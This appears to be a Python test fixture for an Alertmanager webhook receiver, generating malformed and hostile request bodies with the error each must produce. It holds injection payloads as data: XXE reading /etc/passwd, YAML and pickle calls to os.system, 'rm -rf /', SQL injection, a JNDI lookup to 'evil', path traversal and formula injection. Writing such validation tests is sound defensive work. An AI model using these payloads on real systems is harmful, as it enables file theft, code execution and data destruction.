"""The table of malformed and hostile bodies: what is sent, and what the answer must name.

Most of it is generated: a good message with one value wrong, for every field and every kind of wrong. `says` is
part of the answer's `detail`.
"""

from __future__ import annotations

import copy
import gzip
import json
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

GOOD: dict[str, Any] = {
    "version": "4",
    "groupKey": '{}:{alertname="A"}',
    "truncatedAlerts": 0,
    "status": "firing",
    "receiver": "runbookd",
    "groupLabels": {"alertname": "A"},
    "commonLabels": {"alertname": "A"},
    "commonAnnotations": {},
    "externalURL": "http://alertmanager:9093",
    "alerts": [
        {
            "status": "firing",
            "labels": {"alertname": "A", "severity": "critical"},
            "annotations": {"summary": "s"},
            "startsAt": "2026-11-23T10:00:00.123456789Z",
            "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "http://prometheus/graph",
            "fingerprint": "0011223344556677",
        }
    ],
}
BODY = json.dumps(GOOD).encode()


class Hostile(NamedTuple):
    """One body nobody may understand."""

    name: str
    body: bytes
    says: str


def changed(change: Callable[[Any], object]) -> bytes:
    """The good message with something done to it."""
    message = copy.deepcopy(GOOD)
    change(message)
    return json.dumps(message).encode()


def message_with(field: str, value: object) -> bytes:
    """The good message with another value in one field."""
    return changed(lambda message: message.update({field: value}))


def alert_with(field: str, value: object) -> bytes:
    """The good message with another value in one field of its alert."""
    return changed(lambda message: message["alerts"][0].update({field: value}))


def entry_with(field: str, name: str, value: object) -> bytes:
    """The good message with one more label or annotation."""
    return changed(lambda message: message["alerts"][0][field].update({name: value}))


NOT_TEXT: list[tuple[object, str]] = [
    (True, "boolean"),
    (7, "number"),
    (1.5, "number"),
    (["x"], "list"),
    ({"x": "y"}, "object"),
]

NOT_TIMES: list[object] = [
    "",
    "now",
    "2026-11-23",
    "2026-11-23T10:00:00",
    "2026-11-23 10:00:00Z",
    "20261123T100000Z",
    "2026-W48-1T10:00:00Z",
    "2026-11-23T10:00:00+0100",
    "2026-13-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-11-23T25:00:00Z",
    "2026-11-23T10:00:61Z",
    "2026-11-23T10:00:00+25:00",
    "0000-01-01T00:00:00Z",
    "9999-12-31T23:59:59-23:59",
    "2026-11-23T10:00:00." + "9" * 1000 + "Z",
    "-2026-11-23T10:00:00Z",
    "2026-11-23T10:00:00Z; rm -rf /",
    1763892000,
    True,
    [],
    {},
]

NOT_VERSIONS: list[object] = [None, True, 4, 4.0, "", "3", "5", "4 ", "four", ["4"], {"4": 4}]

NOT_COUNTS: list[object] = [True, 1.5, "1", [], {}, -1]

NOT_LISTS: list[object] = [None, True, 1, "x", {}]

NOT_OBJECTS: list[object] = [True, 1, "x", [], [["a", "b"]]]

NOT_STATUSES: list[object] = [
    None,
    True,
    1,
    "",
    "FIRING",
    "firing ",
    "pending",
    ["firing"],
    {"state": "firing"},
]

NOT_JSON: dict[str, tuple[bytes, str]] = {
    "trailing-comma": (b'{"version":"4",}', "trailing comma"),
    "single-quotes": (b"{'version':'4'}", "not JSON"),
    "bare-key": (b'{version:"4"}', "not JSON"),
    "comment": (b'{"version":"4"/* four */}', "not JSON"),
    "nan": (b'{"version":NaN}', "not JSON"),
    "infinity": (b'{"version":-Infinity}', "not JSON"),
    "huge-number": (b'{"version":1e99999}', "not JSON"),
    "leading-zero": (b'{"version":04}', "not JSON"),
    "plus-sign": (b'{"version":+4}', "not JSON"),
    "hex": (b'{"version":0x4}', "not JSON"),
    "lone-surrogate": (b'{"version":"\\ud800"}', "not JSON"),
    "bad-escape": (b'{"version":"\\x34"}', "not JSON"),
    "bad-unicode-escape": (b'{"version":"\\u00g4"}', "not JSON"),
    "newline-in-text": (b'{"version":"4\n"}', "not JSON"),
    "nul-byte-in-text": (b'{"version":"4\x00"}', "not JSON"),
    "nul-bytes": (b"\x00" * 100, "not JSON"),
    "two-documents": (BODY + BODY, "unexpected content after document"),
    "json-lines": (BODY + b"\n" + BODY, "unexpected content after document"),
    "garbage-after": (BODY + b"'; DROP TABLE deliveries; --", "unexpected content after document"),
    "form": (b"payload=%7B%22version%22%3A%224%22%7D", "not JSON"),
    "multipart": (b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n4\r\n--x--', "not JSON"),
    "xml": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "not JSON",
    ),
    "html": (b"<html><script>alert(1)</script></html>", "not JSON"),
    "yaml": (b"version: !!python/object/apply:os.system ['reboot']", "not JSON"),
    "pickle": (b"cposix\nsystem\n(S'reboot'\ntR.", "not JSON"),
    "javascript": (b"while(1);{}", "not JSON"),
    "true-python": (b'{"version":True}', "not JSON"),
    "empty": (b"", "empty"),
    "blank": (b" \t\r\n" * 100, "empty"),
    "bom": (b"\xef\xbb\xbf" + BODY, "byte order mark"),
    "utf-16": (BODY.decode().encode("utf-16"), "not UTF-8"),
    "utf-32": (BODY.decode().encode("utf-32"), "not UTF-8"),
    "latin-1": ('{"version":"ü"}'.encode("latin-1"), "byte 0xfc at offset 12"),
    "gzip": (gzip.compress(BODY, mtime=0), "not UTF-8"),
    "overlong-slash": (b'{"version":"\xc0\xaf"}', "byte 0xc0 at offset 12"),
    "surrogate-bytes": (b'{"version":"\xed\xa0\x80"}', "byte 0xed at offset 12"),
    "beyond-unicode": (b'{"version":"\xf4\x90\x80\x80"}', "byte 0xf4 at offset 12"),
    "cut-utf-8": (b'{"version":"\xe2\x82', "byte 0xe2 at offset 12"),
    "protobuf": (b"\x0a\x05hello\x12\x03\x08\x96\x01", "not"),
    "tls-hello": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "not"),
}

DEEP: dict[str, tuple[bytes, str]] = {
    "lists": (b"[" * 40 + b"]" * 40, "deeper than 32"),
    "objects": (b'{"a":' * 40 + b"1" + b"}" * 40, "deeper than 32"),
    "lists-past-the-parser": (b"[" * 5000 + b"]" * 5000, "depth limit"),
    "unclosed-lists": (b"[" * 1_000_000, "depth limit"),
    "unclosed-objects": (b'{"a":' * 200_000, "depth limit"),
    "in-an-unknown-field": (BODY[:-1] + b',"x":' + b"[" * 40 + b"]" * 40 + b"}", "deeper than 32"),
    "in-a-label": (BODY.replace(b'"critical"', b"[" * 40 + b"]" * 40), "deeper than 32"),
    "behind-a-wide-one": (b"[" + b"[]," * 10_000 + b"[" * 40 + b"]" * 40 + b"]", "deeper than 32"),
}

OTHERS: dict[str, object] = {
    "slack": {"channel": "#ops", "text": "fire"},
    "grafana": {"version": "1", "alerts": [{"status": "firing", "labels": {}}], "orgId": 1},
    "pagerduty": {"event": {"id": "x", "event_type": "incident.triggered"}},
    "sns": {"Type": "Notification", "MessageId": "x", "Message": "{}"},
    "eventbridge": {"version": "0", "id": "x", "detail-type": "CloudWatch Alarm State Change"},
    "cloudevents": {"specversion": "1.0", "type": "x", "source": "y"},
    "sentry": {"action": "triggered", "data": {}},
    "github": {"zen": "Keep it logically awesome.", "hook_id": 1},
    "alertmanager-api": [{"labels": {"alertname": "A"}, "status": {"state": "active"}}],
    "prometheus-push": [{"labels": {"alertname": "A"}}],
    "webhook-version-3": {"version": "3", "alerts": [{}]},
    "no-alerts": {"version": "4", "groupKey": "x"},
    "no-version": {"alerts": GOOD["alerts"]},
    "prototype": {"__proto__": {"version": "4"}, "constructor": {}},
    "empty-object": {},
    "empty-list": [],
    "text": "4",
    "number": 4,
    "true": True,
    "null": None,
    "many-keys": {f"key-{n}": n for n in range(10_000)},
    "long-key": {"k" * 1_000_000: 1},
    "key-with-escapes": {"\x1b[2J\r\nSet-Cookie: x": 1},
}

TOO_MUCH: dict[str, tuple[bytes, str]] = {
    "label-value": (
        entry_with("labels", "x", "y" * 16_385),
        'labels["x"]: 16385 characters, and the limit is 16384',
    ),
    "label-name": (
        entry_with("labels", "x" * 1025, "y"),
        "its name has 1025 characters, and the limit is 1024",
    ),
    "labels": (
        alert_with("labels", {f"l{n}": "" for n in range(257)}),
        "labels: 257 entries, and the limit is 256",
    ),
    "million-labels": (alert_with("labels", {str(n): "" for n in range(100_000)}), "labels: 100000 entries"),
    "annotation": (entry_with("annotations", "x", "y" * 65_537), 'annotations["x"]: 65537 characters'),
    "annotation-name": (entry_with("annotations", "x" * 1025, "y"), "its name has 1025 characters"),
    "annotations": (alert_with("annotations", {str(n): "" for n in range(257)}), "annotations: 257 entries"),
    "url": (alert_with("generatorURL", "x" * 65_537), "generatorURL: 65537 characters"),
    "fingerprint": (alert_with("fingerprint", "x" * 1025), "fingerprint: 1025 characters"),
    "group-key": (message_with("groupKey", "x" * 65_537), "groupKey: 65537 characters"),
    "receiver": (message_with("receiver", "\\" * 65_537), "receiver: 65537 characters"),
    "truncated": (message_with("truncatedAlerts", 10**400), "not JSON"),
}

NUL: dict[str, tuple[bytes, str]] = {
    "label": (entry_with("labels", "x", "a\0b"), 'labels["x"]: a NUL character at position 1'),
    "label-name": (entry_with("labels", "x\0", "a"), 'labels["x\\u0000"]: its name has a NUL character'),
    "annotation": (entry_with("annotations", "x", "\0"), 'annotations["x"]: a NUL character at position 0'),
    "fingerprint": (alert_with("fingerprint", "\0"), "fingerprint: a NUL character"),
    "url": (alert_with("generatorURL", "http://\0"), "generatorURL: a NUL character"),
    "receiver": (message_with("receiver", "\0"), "receiver: a NUL character"),
    "group-key": (message_with("groupKey", "\0"), "groupKey: a NUL character"),
}

HARMLESS_TEXTS = [
    "{{ 7*7 }}",
    "${secret.pagerduty}",
    "{0.__class__.__mro__}",
    "%(secret)s %n %s",
    "$(reboot)",
    "`reboot`",
    "; rm -rf / #",
    "../../../etc/passwd",
    "'; DROP TABLE deliveries; --",
    "<script>alert(1)</script>",
    "\x1b[2J\x07\r\nfake log line",
    "=cmd|' /C calc'!A0",
    "\u202etxt.exe",
    "\ufeff\u200b",
    "💥" * 1000,
    "a" * 16_384,
    '{"version":"4"}',
    "__import__('os').system('reboot')",
    "${jndi:ldap://evil/x}",
    "#cloud-config",
    " ",
    "null",
]
"""What alerts may say, however it looks: text is data."""


def hostile_bodies() -> Iterator[Hostile]:
    """Every body, each with its own name."""
    for kind, table in (("syntax", NOT_JSON), ("depth", DEEP), ("limit", TOO_MUCH), ("nul", NUL)):
        yield from (Hostile(f"{kind}-{name}", *case) for name, case in table.items())
    for name, value in OTHERS.items():
        yield Hostile(f"other-{name}", json.dumps(value).encode(), "not an Alertmanager webhook")
    for cut in range(1, len(BODY), len(BODY) // 24):
        yield Hostile(f"cut-at-{cut}", BODY[:cut], "not JSON")
    yield from wrong_messages()
    yield from wrong_alerts()
    yield from wrong_entries()


def wrong_messages() -> Iterator[Hostile]:
    """A wrong value in each field of the message."""
    for value in NOT_VERSIONS:
        yield Hostile(
            f"version-{value}", message_with("version", value), 'not an Alertmanager webhook of version "4"'
        )
    for field in ("receiver", "groupKey"):
        for value, kind in NOT_TEXT:
            yield Hostile(
                f"{field}-{value}", message_with(field, value), f"{field}: expected text, got {kind}"
            )
    for value in NOT_COUNTS:
        yield Hostile(
            f"truncated-{value}", message_with("truncatedAlerts", value), "truncatedAlerts: expected a"
        )
    for value in NOT_LISTS:
        yield Hostile(f"alerts-{value}", message_with("alerts", value), "alerts: expected list, got")
    yield Hostile("alerts-none", message_with("alerts", []), "alerts: the list is empty")
    for value in (None, *NOT_OBJECTS):
        body = message_with("alerts", [*GOOD["alerts"], value])
        yield Hostile(f"second-alert-{value}", body, "alerts[1]: expected object, got")


def wrong_alerts() -> Iterator[Hostile]:
    """A wrong value in each field of the alert."""
    for value in NOT_STATUSES:
        yield Hostile(
            f"status-{value}", alert_with("status", value), "alerts[0].status: expected firing or resolved"
        )
    for field in ("labels", "annotations"):
        for value in NOT_OBJECTS:
            yield Hostile(
                f"{field}-{value}", alert_with(field, value), f"alerts[0].{field}: expected object, got"
            )
    yield Hostile(
        "labels-missing",
        changed(lambda message: message["alerts"][0].pop("labels")),
        "alerts[0].labels: missing",
    )
    for field in ("startsAt", "endsAt"):
        for number, value in enumerate(NOT_TIMES):
            yield Hostile(f"{field}-{number}", alert_with(field, value), f"alerts[0].{field}: ")
    for field in ("generatorURL", "fingerprint"):
        for value, kind in NOT_TEXT:
            yield Hostile(
                f"{field}-{value}", alert_with(field, value), f"alerts[0].{field}: expected text, got {kind}"
            )


def wrong_entries() -> Iterator[Hostile]:
    """A wrong value in a label and an annotation."""
    for field in ("labels", "annotations"):
        for name, shown in (("x", "x"), ("alertname", "alertname"), ("ü", "\\u00fc"), ('"]', '\\"]')):
            for value, kind in (*NOT_TEXT, (None, "null")):
                yield Hostile(
                    f"{field}-{name}-{value}",
                    entry_with(field, name, value),
                    f'alerts[0].{field}["{shown}"]: expected text, got {kind}',
                )
        yield Hostile(f"{field}-empty-name", entry_with(field, "", "x"), "a name cannot be empty")
